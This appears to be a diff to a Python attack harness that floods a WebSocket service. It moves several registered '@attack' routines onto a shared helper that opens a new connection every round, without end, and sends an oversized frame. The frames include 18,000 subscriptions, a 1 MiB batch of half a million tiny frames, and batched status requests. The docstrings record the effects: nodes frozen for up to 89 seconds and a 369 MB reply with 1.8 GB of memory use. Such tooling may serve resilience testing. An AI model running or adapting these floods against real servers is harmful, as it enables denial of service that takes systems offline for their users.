@@ -73,11 +73,8 @@ def sub_batch(count: int, prefix: str) -> str:
     return json.dumps([{"type": "sub", "id": n, "pattern": f"{prefix}/{n}"} for n in range(1, count + 1)])
 
 
-@attack("subs-one-frame")
-async def subs_one_frame(uri: str) -> None:
-    """18,000 subscriptions in one frame (896 KB froze a buzzer 89 s), again on a new connection each round."""
-    node = urlsplit(uri).path.strip("/") or "tally"
-    frame = sub_batch(18_000, f"{node}/x")
+async def one_frame_per_connection(uri: str, frame: str, listen: float) -> None:
+    """Send ``frame`` on a fresh connection, read what comes back for ``listen`` seconds, again and again."""
     round_ = 0
     while True:
         round_ += 1
@@ -86,11 +83,19 @@ async def subs_one_frame(uri: str) -> None:
                 await hello(ws)
                 await ws.send(frame)
                 attacking()
-                got = await drain_replies(ws, 1.0)
-                say(f"round {round_}: {len(frame)} bytes of subscriptions, {got} bytes back")
+                got = await drain_replies(ws, listen)
+                say(f"round {round_}: {len(frame)} bytes sent, {got} bytes back")
         except (OSError, ConnectionClosed, InvalidHandshake) as exc:
             say(f"round {round_}: {exc!r}")
             await asyncio.sleep(0.1)
+
+
+@attack("subs-one-frame")
+async def subs_one_frame(uri: str) -> None:
+    """18,000 subscriptions in one frame (896 KB froze a buzzer 89 s), again on a new connection each round."""
+    node = urlsplit(uri).path.strip("/") or "tally"
+    frame = sub_batch(18_000, f"{node}/x")
+    await one_frame_per_connection(uri, frame, 1.0)
 
 
 @attack("subs-many-clients")
@@ -119,38 +124,14 @@ async def subs_many_clients(uri: str) -> None:
 async def tiny_batch(uri: str) -> None:
     """A 1 MiB batch of 524,287 tiny frames (froze a node 12-20 s, drew a 43.5 MB reply)."""
     frame = "[" + ",".join(["1"] * 524_287) + "]"
-    round_ = 0
-    while True:
-        round_ += 1
-        try:
-            async with connect(uri, **CLIENT) as ws:
-                await hello(ws)
-                await ws.send(frame)
-                attacking()
-                got = await drain_replies(ws, 0.5)
-                say(f"round {round_}: {len(frame)} bytes sent, {got} bytes back")
-        except (OSError, ConnectionClosed, InvalidHandshake) as exc:
-            say(f"round {round_}: {exc!r}")
-            await asyncio.sleep(0.1)
+    await one_frame_per_connection(uri, frame, 0.5)
 
 
 @attack("status-batch")
 async def status_batch(uri: str) -> None:
     """10 KB of batched status frames (drew a 369 MB reply, 1.8 GB peak RSS)."""
     frame = json.dumps([{"type": "status", "id": n} for n in range(1, 400)])
-    round_ = 0
-    while True:
-        round_ += 1
-        try:
-            async with connect(uri, **CLIENT) as ws:
-                await hello(ws)
-                await ws.send(frame)
-                attacking()
-                got = await drain_replies(ws, 0.5)
-                say(f"round {round_}: {len(frame)} bytes sent, {got} bytes back")
-        except (OSError, ConnectionClosed, InvalidHandshake) as exc:
-            say(f"round {round_}: {exc!r}")
-            await asyncio.sleep(0.1)
+    await one_frame_per_connection(uri, frame, 0.5)
 
 
 def _client_frame(text: str, opcode: int = 0x81) -> bytes:
